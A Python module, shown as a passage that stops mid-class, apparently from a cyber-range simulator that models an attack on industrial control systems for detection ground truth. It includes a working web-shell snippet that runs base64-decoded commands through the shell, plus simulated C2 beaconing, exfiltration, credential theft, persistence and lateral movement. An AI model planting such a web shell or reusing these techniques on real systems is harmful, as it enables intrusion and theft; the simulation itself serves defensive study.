"""Application services, benign behaviors and the attack tooling.

Services are frame handlers bound to well-known ports (web 80, ftp 21,
email 25, ssh 22, c2 443, host-announce 445).  Malware runtimes are small
state machines driven by the event loop: the spy trojan beacons its C2 and
executes tasking, the false-command-injection (FCI) module floods safety
coils, the false-data-injection (FDI) script overwrites RTU telemetry.

Every malicious wire/host artifact is reported to the run's ground-truth
recorder as it is planted, tagged with the attack step that caused it.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from .errors import AuthFailure, C2CodecError, PreconditionNotMet
from .hosts import Host, Socket
from .protocols import c2 as c2p
from .protocols import s7 as s7p
from .protocols.cipher import is_sealed, open_sealed, wrap_sealed
from .protocols.modbus import (
    FC_READ_COILS,
    FC_READ_INPUT,
    ReadBitsRequest,
    ReadRegistersRequest,
    WriteSingleCoil,
)
from .otdevices import COIL_AVOIDANCE, ModbusClientDevice
from .runtime import Ctx, stable_blob
from .simnet import BLOCKED, Frame, TCP

WEB_PORT = 80
FTP_PORT = 21
EMAIL_PORT = 25
SSH_PORT = 22
C2_PORT = 443
ANNOUNCE_PORT = 445

WEBSHELL_MARKER = "webshell:flask-like"
RESULT_CHUNK = 48_000

KEYLOG_BYTES = 4_096
SCREENSHOT_BYTES = 122_880


# ---------------------------------------------------------------------------
# Synthetic binaries and their marker registry
# ---------------------------------------------------------------------------

_MARKERS = {
    b"RRIMPLANT:spytrojan:v1": "spytrojan",
    b"RRIMPLANT:fcimodule:v1": "fcimodule",
    b"RRTOOL:s7fdi:v1": "s7fdi",
}


def trojan_binary(seed: int, display_name: str) -> bytes:
    head = b"MZ\x90\x00RRIMPLANT:spytrojan:v1|" + display_name.encode()
    return head + b"\x00" + stable_blob(seed, f"bin:{display_name}", 2048)


def fci_binary(seed: int) -> bytes:
    return b"\x7fELFRRIMPLANT:fcimodule:v1|" + stable_blob(seed, "bin:fci", 2048)


def fdi_script(rtu_ip: str, values: Tuple[int, int]) -> bytes:
    return (
        "#!/usr/bin/env python3\n"
        "# RRTOOL:s7fdi:v1 - register override utility\n"
        f'TARGET = ("{rtu_ip}", 102)\n'
        f"VALUES = {tuple(values)}\n"
        "PERIOD_MS = 200\n"
        "# writes VALUES into input registers 0..1 until stopped\n"
    ).encode()


def webshell_script() -> bytes:
    return (
        "# uploaded helper - " + WEBSHELL_MARKER + "\n"
        "import base64, subprocess\n"
        "@app.route('/uploads/<name>')\n"
        "def handler(name):\n"
        "    cmd = base64.b64decode(request.args['cmd'])\n"
        "    return subprocess.check_output(cmd, shell=True)\n"
    ).encode()


def detect_malware(content: bytes) -> Optional[str]:
    for marker, kind in _MARKERS.items():
        if marker in content[:256]:
            return kind
    return None


def parse_credential(text: str, target: str, service: str = "ssh") -> Optional[str]:
    """Pull "user:pass" for `target service:` out of a credentials file."""
    for line in text.splitlines():
        line = line.strip()
        if line.startswith(f"{target} {service}:"):
            return line.split(":", 1)[1].strip()
    return None


def find_file(host: Host, ref: str) -> Optional[bytes]:
    """Resolve a path or bare filename against a host's filesystem."""
    content = host.read_file(ref)
    if content is not None:
        return content
    name = ref.replace("\\", "/").rsplit("/", 1)[-1]
    for path in sorted(host.fs):
        if path.replace("\\", "/").rsplit("/", 1)[-1] == name:
            return host.fs[path].content
    return None


# ---------------------------------------------------------------------------
# Request/reply client plumbing
# ---------------------------------------------------------------------------


class RequestClient:
    """One bound local port per host for app-level request/reply exchanges.

    Replies from one service arrive in request order (the fabric is
    deterministic), so a FIFO of callbacks per peer is a faithful match.
    """

    def __init__(self, ctx: Ctx, host_name: str):
        self.ctx = ctx
        self.host_name = host_name
        self.port = ctx.next_client_port()
        self._waiting: Dict[Tuple[str, int], List[Callable[[bytes], None]]] = {}
        ctx.fabric.bind(host_name, self.port, self._on_frame)

    def send(
        self,
        target: str,
        port: int,
        payload: bytes,
        origin: str = "benign",
        on_reply: Optional[Callable[[bytes], None]] = None,
    ):
        delivery = self.ctx.fabric.send(
            self.host_name, target, self.port, port, payload, origin=origin
        )
        if on_reply is not None and delivery.outcome != BLOCKED:
            peer = (delivery.frame.dst_ip, port)
            self._waiting.setdefault(peer, []).append(on_reply)
        return delivery

    def _on_frame(self, frame: Frame) -> None:
        peer = (frame.src_ip, frame.src_port)
        queue = self._waiting.get(peer)
        if queue:
            queue.pop(0)(frame.payload)


def app_client(ctx: Ctx, host_name: str) -> RequestClient:
    key = f"client:{host_name}"
    if key not in ctx.registry:
        ctx.registry[key] = RequestClient(ctx, host_name)
    return ctx.registry[key]


# ---------------------------------------------------------------------------
# Services
# ---------------------------------------------------------------------------


class WebAppService:
    """Tiny HTTP-flavored app: static routes, uploads, access log.

    The upload endpoint stores content verbatim and logs it verbatim.  If an
    uploaded blob base64-decodes to something carrying the web-shell marker,
    the path becomes executable: GETs on it with a ?cmd= query run the
    base64 command on the host.  (This models the unsafe-deserialization
    defect the scenario needs, at app level.)
    """

    def __init__(self, ctx: Ctx, host_name: str, routes: Optional[Dict[str, bytes]] = None):
        self.ctx = ctx
        self.host_name = host_name
        self.routes = dict(routes or {})
        self.log_lines: List[str] = []
        self.webshells: set = set()
        host = ctx.host(host_name)
        self.proc = host.spawn(ctx.loop.now, "webapp", "/usr/bin/python3 /srv/webapp/app.py")

    def start(self) -> None:
        self.ctx.fabric.bind(self.host_name, WEB_PORT, self._on_frame)

    def _log(self, client: str, method: str, path: str, status: int, size: int) -> None:
        ts = self.ctx.loop.iso()
        self.log_lines.append(f"{ts} {client} {method} {path} {status} {size}")

    def _on_frame(self, frame: Frame) -> None:
        text = frame.payload.decode("utf-8", errors="replace")
        head, _, body = text.partition("\r\n\r\n")
        line = head.split("\r\n", 1)[0]
        parts = line.split(" ")
        if len(parts) != 3 or parts[2] != "HTTP/1.1" or parts[0] not in ("GET", "POST"):
            self._log(frame.src_ip, "?", "?", 400, 0)
            self.ctx.fabric.reply(frame, b"HTTP/1.1 400 Bad Request\r\n\r\n")
            return
        method, target = parts[0], parts[1]
        path, _, query = target.partition("?")
        if method == "POST" and path == "/api/upload":
            self._handle_upload(frame, query, body)
            return
        status, resp = self._handle_get(frame, path, query)
        self._log(frame.src_ip, method, target, status, len(resp))
        self.ctx.fabric.reply(frame, b"HTTP/1.1 %d X\r\n\r\n" % status + resp)

    def _handle_upload(self, frame: Frame, query: str, body: str) -> None:
        params = dict(p.split("=", 1) for p in query.split("&") if "=" in p)
        filename = params.get("filename", "upload.bin")
        host = self.ctx.host(self.host_name)
        path = f"/srv/webapp/uploads/{filename}"
        content = body.encode("utf-8")
        origin = "benign"
        try:
            decoded = base64.b64decode(content, validate=True)
        except Exception:
            decoded = b""
        if WEBSHELL_MARKER.encode() in decoded:
            origin = "malicious"
        host.write_file(self.ctx.loop.now, path, content, origin=origin, note="http upload")
        ts = self.ctx.loop.iso()
        self.log_lines.append(f"{ts} {frame.src_ip} UPLOAD {filename} {body}")
        if origin == "malicious":
            self.webshells.add(f"/uploads/{filename}")
            self.ctx.hub.emit("webshell_installed", self.host_name, f"/uploads/{filename}")
        self.ctx.fabric.reply(frame, b"HTTP/1.1 201 Created\r\n\r\n")

    def _handle_get(self, frame: Frame, path: str, query: str) -> Tuple[int, bytes]:
        host = self.ctx.host(self.host_name)
        if path in self.webshells and query.startswith("cmd="):
            try:
                cmd = base64.b64decode(query[4:], validate=True).decode("utf-8")
            except Exception:
                return 400, b"bad command"
            out = run_shell_command(self.ctx, host, cmd, runner="www-data")
            self.ctx.hub.emit("webshell_exec", self.host_name, cmd)
            return 200, out
        if path in self.routes:
            return 200, self.routes[path]
        if path.startswith("/uploads/"):
            stored = host.read_file(f"/srv/webapp{path}")
            if stored is not None:
                return 200, stored
        return 404, b"not found"


class FtpService:
    """Single-frame FTP-flavored file share.

    Commands: "USER u PASS p LIST" | "... RETR name" | "... STOR name" with
    a base64 body after CRLF.  Reads are anonymous; STOR needs the service
    credential.
    """

    def __init__(self, ctx: Ctx, host_name: str, share_dir: str = "/srv/ftp/share"):
        self.ctx = ctx
        self.host_name = host_name
        self.share_dir = share_dir.rstrip("/")
        host = ctx.host(host_name)
        self.proc = host.spawn(ctx.loop.now, "vsftpd", "/usr/sbin/vsftpd /etc/vsftpd.conf")

    def start(self) -> None:
        self.ctx.fabric.bind(self.host_name, FTP_PORT, self._on_frame)

    def _share_files(self) -> Dict[str, bytes]:
        host = self.ctx.host(self.host_name)
        prefix = self.share_dir + "/"
        return {
            path[len(prefix):]: entry.content
            for path, entry in host.fs.items()
            if path.startswith(prefix)
        }

    def _on_frame(self, frame: Frame) -> None:
        text = frame.payload.decode("utf-8", errors="replace")
        head, _, body = text.partition("\r\n")
        parts = head.split(" ")
        if len(parts) < 5 or parts[0] != "USER" or parts[2] != "PASS":
            self.ctx.fabric.reply(frame, b"500 bad command")
            return
        user, password, cmd = parts[1], parts[3], parts[4]
        arg = parts[5] if len(parts) > 5 else ""
        host = self.ctx.host(self.host_name)
        if cmd == "LIST":
            names = ",".join(sorted(self._share_files()))
            self.ctx.fabric.reply(frame, f"150 {names}".encode())
            return
        if cmd == "RETR":
            files = self._share_files()
            if arg not in files:
                self.ctx.fabric.reply(frame, b"550 no such file")
                return
            blob = base64.b64encode(files[arg]).decode()
            self.ctx.fabric.reply(frame, f"226 {blob}".encode())
            return
        if cmd == "STOR":
            expected = host.credentials.get("ftp")
            if expected != f"{user}:{password}":
                self.ctx.fabric.reply(frame, b"530 login incorrect")
                self.ctx.hub.emit("ftp_auth_fail", self.host_name, user)
                return
            try:
                content = base64.b64decode(body.encode(), validate=True)
            except Exception:
                self.ctx.fabric.reply(frame, b"550 bad payload")
                return
            origin = "malicious" if detect_malware(content) else "benign"
            host.write_file(
                self.ctx.loop.now, f"{self.share_dir}/{arg}", content, origin=origin,
                note="ftp upload",
            )
            self.ctx.hub.emit("ftp_stor", self.host_name, arg)
            self.ctx.fabric.reply(frame, b"226 transfer complete")
            return
        self.ctx.fabric.reply(frame, b"502 not implemented")


class EmailService:
    """Per-host mail drop: parses the message, stores attachments, and (on
    hosts that do such things) opens them."""

    def __init__(self, ctx: Ctx, host_name: str):
        self.ctx = ctx
        self.host_name = host_name

    def start(self) -> None:
        self.ctx.fabric.bind(self.host_name, EMAIL_PORT, self._on_frame)

    def _on_frame(self, frame: Frame) -> None:
        text = frame.payload.decode("utf-8", errors="replace")
        headers: Dict[str, str] = {}
        head, _, rest = text.partition("\n\n")
        for line in head.splitlines():
            key, _, value = line.partition(":")
            headers[key.strip().upper()] = value.strip()
        host = self.ctx.host(self.host_name)
        host.mailbox.append({"headers": headers, "ts": self.ctx.loop.now})
        host.log(self.ctx.loop.now, "mail_received", headers.get("SUBJECT", ""))
        attach = headers.get("ATTACH")
        if not attach:
            return
        try:
            content = base64.b64decode(rest.encode(), validate=True)
        except Exception:
            return
        path = f"C:\\Users\\{self.host_name}\\Downloads\\{attach}"
        origin = "malicious" if detect_malware(content) else "benign"
        host.write_file(self.ctx.loop.now, path, content, origin=origin, note="mail attachment")
        if host.execute_email_attachments and attach.lower().endswith(".exe"):
            # the user double-clicks it
            self.ctx.loop.schedule_in(
                300_000_000, lambda: self.ctx.activate_binary(self.host_name, path, "explorer.exe")
            )


class AnnounceService:
    """Host-announcement responder (what a LAN scan learns about a box)."""

    def __init__(self, ctx: Ctx, host_name: str):
        self.ctx = ctx
        self.host_name = host_name

    def start(self) -> None:
        self.ctx.fabric.bind(self.host_name, ANNOUNCE_PORT, self._on_frame)

    def _on_frame(self, frame: Frame) -> None:
        if frame.payload != b"PROBE":
            return
        host = self.ctx.host(self.host_name)
        tags = ",".join(host.tags) or "-"
        self.ctx.fabric.reply(frame, f"HOST {host.name} ROLE {tags}".encode())


class SshService:
    """Sealed-channel remote access: AUTH + (EXEC | SCP) single records."""

    def __init__(self, ctx: Ctx, host_name: str):
        self.ctx = ctx
        self.host_name = host_name

    def start(self) -> None:
        self.ctx.fabric.bind(self.host_name, SSH_PORT, self._on_frame)

    def _on_frame(self, frame: Frame) -> None:
        host = self.ctx.host(self.host_name)
        if frame.payload == b"PROBE":
            self.ctx.fabric.reply(frame, f"SSH-2.0-rrsim {host.name}".encode())
            return
        if not is_sealed(frame.payload):
            return
        try:
            key_id, plaintext = open_sealed(frame.payload, self.ctx.keychain.keyring())
        except (KeyError, AuthFailure, C2CodecError) as exc:
            host.log(self.ctx.loop.now, "ssh_reject", str(exc))
            return
        text = plaintext.decode("utf-8", errors="replace")
        lines = text.split("\n")
        if not lines or not lines[0].startswith("AUTH "):
            self._reply(frame, key_id, b"500 bad request")
            return
        cred = lines[0][5:]
        if host.credentials.get("ssh") != cred:
            host.log(self.ctx.loop.now, "ssh_auth_fail", cred.split(":")[0])
            self.ctx.hub.emit("ssh_auth_fail", self.host_name, cred.split(":")[0])
            self._reply(frame, key_id, b"550 DENIED")
            return
        user = cred.split(":")[0]
        command = lines[1] if len(lines) > 1 else ""
        if command.startswith("EXEC "):
            cmd = command[5:]
            host.log(self.ctx.loop.now, "ssh_exec", cmd)
            self.ctx.hub.emit("ssh_exec", self.host_name, cmd)
            out = run_shell_command(self.ctx, host, cmd, runner=user, via_ssh=True)
            self._reply(frame, key_id, b"OK " + out[:2000])
            return
        if command.startswith("SCP "):
            _, dst_path, blob = command.split(" ", 2)
            try:
                content = base64.b64decode(blob.encode(), validate=True)
            except Exception:
                self._reply(frame, key_id, b"500 bad payload")
                return
            origin = "malicious" if detect_malware(content) else "benign"
            host.write_file(self.ctx.loop.now, dst_path, content, origin=origin, note="scp upload")
            host.log(self.ctx.loop.now, "scp_write", dst_path)
            self.ctx.hub.emit("scp_file", self.host_name, dst_path)
            self._reply(frame, key_id, b"OK")
            return
        self._reply(frame, key_id, b"500 bad request")

    def _reply(self, frame: Frame, key_id: str, plaintext: bytes) -> None:
        cipher = self.ctx.keychain.cipher_for(key_id)
        self.ctx.fabric.reply(frame, wrap_sealed(key_id, cipher, plaintext))


def run_shell_command(ctx: Ctx, host: Host, cmd: str, runner: str = "user", via_ssh: bool = False) -> bytes:
    """Execute a command against host state; returns its output bytes.

    Commands naming a dropped tool binary activate it (the runtime keeps the
    spawning shell alive as the tool's parent).
    """
    now = ctx.loop.now
    argv0 = cmd.split(" ")[0]
    tool_path = None
    for path in host.fs:
        if path.endswith(argv0.split("/")[-1]) and detect_malware(host.fs[path].content):
            if argv0.split("/")[-1] in (path.split("/")[-1], path.split("\\")[-1]):
                tool_path = path
                break
    if argv0 in ("python3", "python") and len(cmd.split(" ")) > 1:
        candidate = cmd.split(" ")[1]
        entry = host.fs.get(candidate)
        if entry is not None and detect_malware(entry.content):
            tool_path = candidate
    if tool_path is not None:
        parent = "sshd" if via_ssh else runner
        ctx.activate_binary(host.name, tool_path, parent)
        return f"started {tool_path}".encode()
    if cmd.startswith("cat "):
        content = find_file(host, cmd[4:].strip())
        return content if content is not None else b"cat: no such file"
    if cmd == "id" or cmd == "whoami":
        return f"{runner}@{host.name}".encode()
    if cmd.startswith("ls"):
        arg = cmd[2:].strip() or "/"
        names = sorted(p for p in host.fs if p.startswith(arg))
        return "\n".join(names).encode() or b""
    if cmd == "uptime":
        return b" 10:00:00 up 12 days, load average: 0.01"
    # generic transient process
    proc = host.spawn(now, argv0.split("/")[-1] or "sh", cmd, ppid=None)
    host.exit_process(now, proc.pid)
    return b""


class C2Server:
    """Threat-actor command server: task queues in, loot out."""

    def __init__(self, ctx: Ctx, host_name: str):
        self.ctx = ctx
        self.host_name = host_name
        self.tasks: Dict[str, List[str]] = {}
        self.task_meta: Dict[Tuple[str, str], Tuple[Optional[str], str]] = {}
        self.loot: Dict[Tuple[str, str], bytes] = {}
        self._result_chunks: Dict[Tuple[str, str], List[bytes]] = {}

    def start(self) -> None:
        self.ctx.fabric.bind(self.host_name, C2_PORT, self._on_frame)

    def queue_task(self, victim: str, command: str, step: Optional[str] = None, desc: str = "") -> None:
        self.tasks.setdefault(victim, []).append(command)
        self.task_meta[(victim, command)] = (step, desc or command)
        self.ctx.hub.emit("c2_task_queued", victim, command)

    def loot_text(self, victim: str, command: str) -> Optional[bytes]:
        return self.loot.get((victim, command))

    def _victim_of(self, key_id: str) -> str:
        # key ids look like "<scenario>-c2-<victim>[-...]"
        middle = key_id.split("-c2-", 1)
        return middle[1] if len(middle) == 2 else key_id

    def _on_frame(self, frame: Frame) -> None:
        try:
            key_id, plaintext = open_sealed(frame.payload, self.ctx.keychain.keyring())
            kind, command, payload = c2p.parse_c2_request(plaintext.decode("utf-8"))
        except (KeyError, AuthFailure, C2CodecError, UnicodeDecodeError):
            return
        victim = self._victim_of(key_id)
        cipher = self.ctx.keychain.cipher_for(key_id)
        if kind == "task":
            self.ctx.hub.emit("c2_beacon_seen", victim, command)
            queue = self.tasks.get(victim, [])
            command_out = queue.pop(0) if queue else None
            if command_out is not None:
                self.ctx.hub.emit("c2_task_sent", victim, command_out)
            reply = c2p.task_response(command_out).encode()
            self.ctx.fabric.reply(frame, wrap_sealed(key_id, cipher, reply))
            return
        # result upload (possibly chunked: "<cmd>#k/n" suffix convention)
        base_cmd, chunk_no, chunk_total = command, 1, 1
        if "#" in command and command.rsplit("#", 1)[1].count("/") == 1:
            base_cmd, frac = command.rsplit("#", 1)
            chunk_no, chunk_total = (int(x) for x in frac.split("/"))
        parts = self._result_chunks.setdefault((victim, base_cmd), [])
        parts.append(payload or b"")
        if chunk_no == chunk_total:
            self.loot[(victim, base_cmd)] = b"".join(parts)
            del self._result_chunks[(victim, base_cmd)]
            self.ctx.hub.emit("c2_result", victim, base_cmd)
        self.ctx.fabric.reply(frame, wrap_sealed(key_id, cipher, b"200 OK"))


# ---------------------------------------------------------------------------
# Malware runtimes
# ---------------------------------------------------------------------------


@dataclass
class ImplantLabels:
    activate: str
    beacon: str


class SpyTrojan:
    """Beaconing implant with task execution and lateral-movement helpers."""

    def __init__(
        self,
        ctx: Ctx,
        host_name: str,
        binary_path: str,
        parent_name: str,
        c2_host: str,
        labels: ImplantLabels,
        beacon_period_us: int = 30_000_000,
    ):
        self.ctx = ctx
        self.host_name = host_name
        self.binary_path = binary_path
        self.c2_host = c2_host
        self.labels = labels
        self.beacon_period_us = beacon_period_us
        self.backoff_us = beacon_period_us
        self.last_cmd: Optional[str] = None
        self._beacons_sent = 0
        host = ctx.host(host_name)
        now = ctx.loop.now
        name = binary_path.replace("\\", "/").rsplit("/", 1)[-1]
        parent_pid = host.pid_of(parent_name)
        self.proc = host.spawn(
            now, name, binary_path, ppid=parent_pid, implant=True,
            modules=["keylogger.dll", "screengrab.dll"],
        )
        # persistence helper stays resident
        self.helper = host.spawn(now, "updhelper.exe", f"{binary_path} --resident", ppid=self.proc.pid)
        autorun = f"C:\\Users\\{host_name}\\AppData\\Roaming\\updhelper.lnk"
        host.write_file(now, autorun, f"run {binary_path}".encode(), origin="malicious", note="autorun")
        self.client_port = ctx.next_client_port()
        ctx.fabric.bind(host_name, self.client_port, self._on_frame)
        self.key_id, self.cipher = ctx.keychain.new_session(f"c2-{host_name}")
        c2_ip = ctx.fabric.hosts[c2_host].ip
        self.proc.open_sockets.append(Socket(host.ip, self.client_port, c2_ip, C2_PORT))
        ctx.registry[f"trojan:{host_name}"] = self
        ctx.hub.emit("implant_active", host_name, binary_path)
        step = labels.activate
        t = ctx.truth
        t.memory(step, host_name, self.proc.pid, "process", name, f"spy trojan process on {host_name}")
        t.memory(step, host_name, self.proc.pid, "cmdline", binary_path, "spy trojan launch path")
        t.memory(step, host_name, self.proc.pid, "module", "keylogger.dll", "keystroke capture module")
        t.memory(step, host_name, self.proc.pid, "module", "screengrab.dll", "screen capture module")
        t.memory(step, host_name, self.proc.pid, "socket", f"{c2_ip}:{C2_PORT}", "open socket to the C2 server")
        t.memory(step, host_name, self.helper.pid, "process", "updhelper.exe", f"persistence helper on {host_name}")
        t.memory(step, host_name, self.helper.pid, "cmdline", "--resident", "persistence helper launch flag")
        t.file(step, host, binary_path, f"dropped implant binary on {host_name}")
        t.file(step, host, autorun, f"implant autorun entry on {host_name}")
        ctx.loop.schedule_in(5_000_000, self._beacon)

    # -- c2 loop -------------------------------------------------------------

    def beacon_now(self) -> None:
        self._beacon(reschedule=False)

    def _beacon(self, reschedule: bool = True) -> None:
        marker = self.last_cmd or f"hello {self.host_name}"
        payload = wrap_sealed(self.key_id, self.cipher, c2p.beacon_request(marker).encode())
        client = self.ctx.fabric
        delivery = client.send(
            self.host_name, self.c2_host, self.client_port, C2_PORT, payload, origin="malicious"
        )
        if self._beacons_sent == 0:
            self.ctx.hub.emit("c2_first_frame", self.host_name, delivery.outcome)
        self._beacons_sent += 1
        self.ctx.truth.frame(
            self.labels.beacon, delivery.frame, delivery.outcome,
            f"implant beacon loop {self.host_name} -> c2",
            loop_key=f"beacon:{self.host_name}",
        )
        if not reschedule:
            return
        if delivery.outcome == BLOCKED:
            # C2 unreachable: exponential backoff, capped
            self.backoff_us = min(self.backoff_us * 2, 300_000_000)
            self.ctx.hub.emit("c2_unreachable", self.host_name, "")
            self.ctx.loop.schedule_in(self.backoff_us, self._beacon)
        else:
            self.backoff_us = self.beacon_period_us
            self.ctx.loop.schedule_in(self.beacon_period_us, self._beacon)

    def _on_frame(self, frame: Frame) -> None:
        if not is_sealed(frame.payload):
            return
        try:
            _, plaintext = open_sealed(frame.payload, {self.key_id: self.ctx.keychain.keyring()[self.key_id]})
        except (KeyError, AuthFailure, C2CodecError):
            return
        text = plaintext.decode("utf-8", errors="replace")
        if text.startswith("200 TASK") or text == "200 IDLE":
            command = c2p.parse_c2_response(text)
            if command is not None:
                self.last_cmd = command
                self.execute_task(command)

    # -- tasking -------------------------------------------------------------

    def _task_step(self, command: str) -> Tuple[str, str]:
        c2 = self.ctx.registry.get("c2")
        if c2 is not None:
            step, desc = c2.task_meta.get((self.host_name, command), (None, command))
            if step is not None:
                return step, desc
        return self.labels.beacon, command

    def execute_task(self, command: str) -> None:
        step, desc = self._task_step(command)
        host = self.ctx.host(self.host_name)
        if command.startswith("whoami"):
            self._send_result(command, f"corp\\{self.host_name}".encode(), step, desc)
            return
        if command.startswith("find credentials"):
            hits = [p for p in host.fs if "credential" in p.lower()]
            self._send_result(command, "\n".join(hits).encode(), step, desc)
            return
        if command.startswith("cat "):
            content = find_file(host, command[4:].strip()) or b"no such file"
            self._send_result(command, content, step, desc)
            return
        if command.startswith("keylog"):
            blob = stable_blob(self.ctx.seed, f"keylog:{self.host_name}", KEYLOG_BYTES, printable=True)
            self._send_result(command, blob, step, desc)
            return
        if command.startswith("screenshot"):
            blob = b"\x89PNG\r\n\x1a\n" + stable_blob(
                self.ctx.seed, f"screenshot:{self.host_name}", SCREENSHOT_BYTES - 8
            )
            self._send_result(command, blob, step, desc)
            return
        if command.startswith("scan "):
            self._run_scan(command, step, desc)
            return
        if command.startswith("drop "):
            _, dst_path, blob = command.split(" ", 2)
            content = base64.b64decode(blob.encode())
            origin = "malicious" if detect_malware(content) else "benign"
            host.write_file(self.ctx.loop.now, dst_path, content, origin=origin, note="c2 drop")
            self.ctx.truth.file(step, host, dst_path, desc)
            self.ctx.hub.emit("c2_drop", self.host_name, dst_path)
            self._send_result(f"drop {dst_path}", b"dropped", step, desc)
            return
        if command.startswith("run "):
            out = run_shell_command(self.ctx, host, command[4:], runner=self.host_name)
            self._send_result(command, out, step, desc)
            return
        self._send_result(command, b"unknown task", step, desc)

    def _send_result(
        self, command: str, payload: bytes, step: str, desc: str, record: bool = True
    ) -> None:
        chunks = [payload[i:i + RESULT_CHUNK] for i in range(0, len(payload), RESULT_CHUNK)] or [b""]
        total = len(chunks)
        for idx, chunk in enumerate(chunks, 1):
            wire_cmd = command if total == 1 else f"{command}#{idx}/{total}"
            msg = c2p.result_request(wire_cmd, chunk).encode()
            sealed = wrap_sealed(self.key_id, self.cipher, msg)
            delivery = self.ctx.fabric.send(
                self.host_name, self.c2_host, self.client_port, C2_PORT, sealed,
                origin="malicious",
            )
            if record:
                self.ctx.truth.frame(
                    step, delivery.frame, delivery.outcome,
                    f"exfil result for task '{command}' ({len(payload)} bytes)",
                    loop_key=f"result:{self.host_name}:{command}" if total > 1 else None,
                )

    def _run_scan(self, command: str, step: str, desc: str) -> None:
        target_segment = command.split(" ", 1)[1].strip()
        fabric = self.ctx.fabric
        findings: List[str] = []
        probe_port = self.ctx.next_client_port()
        results: Dict[Tuple[str, int], str] = {}

        def on_probe_reply(frame: Frame) -> None:
            results[(frame.src_ip, frame.src_port)] = frame.payload.decode("utf-8", "replace")

        fabric.bind(self.host_name, probe_port, on_probe_reply)
        targets = [
            ref for ref in fabric.hosts.values()
            if ref.segment == target_segment and ref.name != self.host_name
        ]
        count = 0
        for ref in targets:
            for port in (SSH_PORT, WEB_PORT, ANNOUNCE_PORT):
                frame = Frame(
                    ts=self.ctx.loop.now, src_ip=fabric.hosts[self.host_name].ip,
                    dst_ip=ref.ip, src_port=probe_port, dst_port=port,
                    proto=TCP, payload=b"PROBE", origin="malicious",
                )
                delivery = fabric.submit(frame)
                self.ctx.truth.frame(
                    step, delivery.frame, delivery.outcome,
                    f"network scan probe loop from {self.host_name} ({target_segment})",
                    loop_key=f"scan:{self.host_name}:{command}",
                )
                count += 1

        def finish() -> None:
            lines = [f"{ip}:{port} {banner}" for (ip, port), banner in sorted(results.items())]
            self.ctx.hub.emit("scan_done", self.host_name, f"{count} probes, {len(lines)} services")
            self._send_result(command, "\n".join(lines).encode(), step, desc)

        self.ctx.loop.schedule_in(2_000_000, finish)

    # -- lateral movement ----------------------------------------------------

    def resolve_loot_credential(self, victim: str, command: str, target: str) -> str:
        c2 = self.ctx.registry.get("c2")
        blob = c2.loot_text(victim, command) if c2 is not None else None
        if blob is None:
            raise PreconditionNotMet(f"no loot for ({victim}, {command})")
        cred = parse_credential(blob.decode("utf-8", "replace"), target)
        if cred is None:
            raise PreconditionNotMet(f"loot has no ssh credential for {target}")
        return cred

    def _track_session_socket(self, port: int, target: str, step: str, kind: str) -> None:
        """Record the lateral-movement session socket on the implant process."""
        target_ip = self.ctx.fabric.hosts[target].ip
        sock = Socket(
            laddr=self.ctx.fabric.hosts[self.host_name].ip, lport=port,
            raddr=target_ip, rport=SSH_PORT, proto="tcp",
        )
        self.proc.open_sockets.append(sock)
        self.ctx.truth.memory(
            step, self.host_name, self.proc.pid, "socket", f"{target_ip}:{SSH_PORT}",
            f"{kind} session from the implant to {target}",
        )

    def remote_copy(
        self, target: str, cred: str, src_path: str, dst_path: str, step: str
    ) -> None:
        host = self.ctx.host(self.host_name)
        content = host.read_file(src_path)
        if content is None:
            raise PreconditionNotMet(f"{src_path} not present on {self.host_name}")
        session_label = f"scp-{self.host_name}-{target}"
        key_id, cipher = self.ctx.keychain.new_session(session_label)
        blob = base64.b64encode(content).decode()
        msg = f"AUTH {cred}\nSCP {dst_path} {blob}".encode()
        port = self.ctx.next_client_port()

        def on_reply(fr: Frame) -> None:
            # the service wrote the file before acknowledging
            target_host = self.ctx.host(target)
            if target_host.has_file(dst_path):
                base = dst_path.replace("\\", "/").rsplit("/", 1)[-1]
                self.ctx.truth.file(step, target_host, dst_path, f"{base} staged on {target}")

        self.ctx.fabric.bind(self.host_name, port, on_reply)
        delivery = self.ctx.fabric.send(
            self.host_name, target, port, SSH_PORT,
            wrap_sealed(key_id, cipher, msg), origin="malicious",
        )
        self._track_session_socket(port, target, step, "scp")
        self.ctx.truth.frame(
            step, delivery.frame, delivery.outcome,
            f"scp transfer of {src_path.rsplit('/', 1)[-1]} to {target}",
        )
        self.ctx.hub.emit("lateral_copy", self.host_name, f"{target}:{dst_path}")

    def remote_exec(self, target: str, cred: str, cmd: str, step: str) -> None:
        session_label = f"ssh-{self.host_name}-{target}"
        key_id, cipher = self.ctx.keychain.new_session(session_label)
        msg = f"AUTH {cred}\nEXEC {cmd}".encode()
        port = self.ctx.next_client_port()
        self.ctx.fabric.bind(self.host_name, port, lambda fr: None)
        delivery = self.ctx.fabric.send(
            self.host_name, target, port, SSH_PORT,
            wrap_sealed(key_id, cipher, msg), origin="malicious",
        )
        self._track_session_socket(port, target, step, "ssh")
        self.ctx.truth.frame(
            step, delivery.frame, delivery.outcome, f"remote execution on {target}: {cmd}"
        )
        self.ctx.hub.emit("lateral_exec", self.host_name, f"{target}:{cmd}")


class FciModule:
    """False-command-injection tool running on a compromised OT-adjacent host."""

    def __init__(
        self,
        ctx: Ctx,
        host_name: str,
        binary_path: str,
        parent_name: str,
        c2_host: str,
        plc_host: str,
        train_coil: int,
        labels: ImplantLabels,
        beacon_period_us: int = 60_000_000,
    ):
        self.ctx = ctx
        self.host_name = host_name
        self.c2_host = c2_host
        self.plc_host = plc_host
        self.train_coil = train_coil
        self.labels = labels
        host = ctx.host(host_name)
        now = ctx.loop.now
        # keep the spawning shell resident as our parent
        shell_pid = host.pid_of("sshd")
        self.shell = host.spawn(now, "sh", f"sh -c {binary_path}", ppid=shell_pid)
        self.proc = host.spawn(
            now, "fciModule.exe", f"{binary_path} --quiet", ppid=self.shell.pid,
            implant=True, modules=["libmbtcp.so"],
        )
        self.client_port = ctx.next_client_port()
        ctx.fabric.bind(host_name, self.client_port, self._on_frame)
        self.key_id, self.cipher = ctx.keychain.new_session(f"c2-{host_name}")
        c2_ip = ctx.fabric.hosts[c2_host].ip
        plc_ip = ctx.fabric.hosts[plc_host].ip
        self.proc.open_sockets.append(Socket(host.ip, self.client_port, c2_ip, C2_PORT))
        self.modbus = ModbusClientDevice(
            f"fci-{host_name}", host_name, ctx.next_client_port(), ctx.fabric, ctx.loop
        )
        self.modbus.on_response = self._on_modbus_response
        self.modbus.start()
        self.proc.open_sockets.append(Socket(host.ip, self.modbus.client_port, plc_ip, 502))
        self._recon: List[str] = []
        self._recon_pending = 0
        self._recon_step: Optional[str] = None
